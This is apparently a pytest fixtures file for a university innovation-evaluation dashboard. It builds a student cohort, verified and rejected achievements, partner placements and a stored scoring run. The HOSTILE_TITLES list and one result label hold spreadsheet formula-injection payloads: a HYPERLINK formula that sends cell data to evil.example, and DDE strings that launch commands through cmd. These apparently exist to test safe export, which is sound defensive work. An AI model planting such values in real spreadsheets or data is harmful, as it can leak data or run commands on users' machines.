"""Dashboard fixtures: a cohort with hand-countable achievements and IUR participations, a stored run.

Cohort SE 2022 (``data.cohort``): students s1–s4 plus s5 (withdrawn). Counted (verified) achievements:
a1 national project (s1, s2), a2 provincial project (s1), a3 SCI paper (s3), a4 granted patent (s1 and
t1 of SE 2023), a6 national award (s2). Not counted: a7 claimed project (s4), a8 rejected paper (s4),
a9 verified project of the withdrawn s5. SE 2023: t1, t2; a5 applied patent (t1). NUR: one verified
project of its own student. IUR: s1 at an enterprise (placement) and a research institute (joint
project), s2 at the enterprise, s5 (withdrawn) at the enterprise, s3 with a *NUR* partner (not counted).
"""

from __future__ import annotations

import itertools
from types import SimpleNamespace

import pytest
from babel.messages.mofile import write_mo
from babel.messages.pofile import read_po

from eduinnov.achievements.models import (
    AchievementKind,
    Indexing,
    Level,
    PatentStatus,
    VerificationStatus,
)
from eduinnov.config import ROOT
from eduinnov.core.models import utcnow
from eduinnov.extensions import db
from eduinnov.frameworks.models import Participation, ParticipationKind, PartnerKind, PartnerOrganisation
from eduinnov.indicators.models import EvaluationModel, EvaluationRun, EvaluationUnit
from eduinnov.programs.models import StudentStatus
from tests.factories import make_achievement, make_cohort, make_student

_runs = itertools.count(1)
HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3", "\t=1+1"]


@pytest.fixture(scope="session", autouse=True)
def zh_catalogue():
    """The compiled Chinese catalogue (``make translations`` makes it; compiled here if missing)."""
    po = ROOT / "translations" / "zh" / "LC_MESSAGES" / "messages.po"
    mo = po.with_suffix(".mo")
    if not mo.exists() or mo.stat().st_mtime < po.stat().st_mtime:
        with po.open("rb") as fh:
            catalog = read_po(fh, locale="zh")
        with mo.open("wb") as fh:
            write_mo(fh, catalog)
    return mo


def verified(achievement, by, status=VerificationStatus.VERIFIED, note=None):
    decider = by.id  # read before changing the row: loading it would autoflush a half-made decision
    achievement.verified_by_id = decider
    achievement.verified_at = utcnow()
    achievement.verification_note = note
    achievement.verification_status = status
    db.session.commit()
    return achievement


def partner(program, kind, name):
    p = PartnerOrganisation(program=program, name_zh=name, kind=kind)
    db.session.add(p)
    db.session.commit()
    return p


def participate(partner_, student, kind=ParticipationKind.PLACEMENT):
    db.session.add(Participation(partner=partner_, student=student, kind=kind, title="实习"))
    db.session.commit()


@pytest.fixture
def data(program, other_program, cohort, director):
    later = make_cohort(program, 2023)
    nur = make_cohort(other_program, 2022)
    s1, s2, s3, s4 = (make_student(cohort, name=f"学生{i}") for i in range(1, 5))
    s5 = make_student(cohort, name="退学生", status=StudentStatus.WITHDRAWN)
    t1, t2 = make_student(later), make_student(later)
    n1 = make_student(nur)
    A = AchievementKind
    a = {
        "a1": verified(make_achievement(program, [s1, s2], A.PROJECT, level=Level.NATIONAL), director),
        "a2": verified(make_achievement(program, [s1], A.PROJECT, level=Level.PROVINCIAL), director),
        "a3": verified(make_achievement(program, [s3], A.PUBLICATION, indexing=Indexing.SCI), director),
        "a4": verified(make_achievement(program, [s1, t1], A.PATENT, patent_status=PatentStatus.GRANTED), director),
        "a5": verified(make_achievement(program, [t1], A.PATENT, patent_status=PatentStatus.APPLIED), director),
        "a6": verified(make_achievement(program, [s2], A.AWARD, level=Level.NATIONAL), director),
        "a7": make_achievement(program, [s4], A.PROJECT, level=Level.NATIONAL),
        "a8": verified(make_achievement(program, [s4], A.PUBLICATION, indexing=Indexing.SCI), director,
                       VerificationStatus.REJECTED, "not ours"),
        "a9": verified(make_achievement(program, [s5], A.PROJECT, level=Level.UNIVERSITY), director),
        "n1": verified(make_achievement(other_program, [n1], A.PROJECT, level=Level.UNIVERSITY), director),
    }
    firm = partner(program, PartnerKind.ENTERPRISE, "某软件公司")
    lab = partner(program, PartnerKind.RESEARCH_INSTITUTE, "某研究所")
    hospital = partner(other_program, PartnerKind.HOSPITAL, "某医院")
    participate(firm, s1)
    participate(lab, s1, ParticipationKind.JOINT_PROJECT)
    participate(firm, s2)
    participate(firm, s5)
    participate(hospital, s3)
    return SimpleNamespace(program=program, other_program=other_program, cohort=cohort, later=later, nur=nur,
                           students=[s1, s2, s3, s4, s5], later_students=[t1, t2], a=a)


def make_run(cohort, students, *, created_by=None, scores=None, b1=None) -> EvaluationRun:
    """A stored student run on ``cohort``: goal G with three first-level leaves B1–B3, two grade bands."""
    tree = {"code": "G", "name_zh": "创新能力", "name_en": "Innovation ability", "children": [
        {"code": "B1", "name_zh": "科研训练", "name_en": "Research training"},
        {"code": "B2", "name_zh": "学术成果", "name_en": "Publications"},
        {"code": "B3", "name_zh": "学科竞赛", "name_en": "Competitions"},
    ]}
    scale = [{"name_zh": "优秀", "name_en": "Excellent", "min": 0.6, "max": 1.0, "value": 90},
             {"name_zh": "待提高", "name_en": "Needs work", "min": 0.0, "max": 0.6, "value": 60}]
    model = EvaluationModel(program_id=cohort.program_id, name=f"测试模型 {next(_runs)}", unit=EvaluationUnit.STUDENT,
                            grade_scale=scale)
    db.session.add(model)
    db.session.flush()
    ids = [s.id for s in students]
    scores = list(scores or [0.8, 0.5, 0.65])[: len(ids)]
    run = EvaluationRun(
        model=model, program_id=cohort.program_id, model_name="测试模型", model_version=1,
        unit=EvaluationUnit.STUDENT, target_cohort_id=cohort.id, target_label="SE 2022",
        model_snapshot={"unit": "student", "tree": tree, "grade_scale": scale},
        inputs={"objects": [{"id": i, "label": f"学生 ({i})"} for i in ids], "values": {}},
        weights={},
        node_scores={"G": scores, "B1": list(b1 or [0.9, 0.4, 0.7])[: len(ids)], "B2": [0.7, 0.6, 0.6][: len(ids)],
                     "B3": [0.8, 0.5, 0.65][: len(ids)]},
        results=[{"id": i, "label": f"=cmd|学生 ({i})", "score": s, "grade_index": 1 if s >= 0.6 else 2,
                  "grade": "Excellent" if s >= 0.6 else "Needs work", "grade_zh": "优秀" if s >= 0.6 else "待提高",
                  "rank": r}
                 for i, s, r in zip(ids, scores, [1, 3, 2], strict=False)],
        summary={"n": len(ids), "mean": sum(scores) / len(scores), "median": 0.65, "min": 0.5, "max": 0.8,
                 "grade_counts": [2, 1], "mean_grade_index": 1, "grade_rule": "band", "warnings": []},
        fingerprint="f" * 64, created_by_id=created_by.id if created_by else None,
    )
    db.session.add(run)
    db.session.commit()
    return run
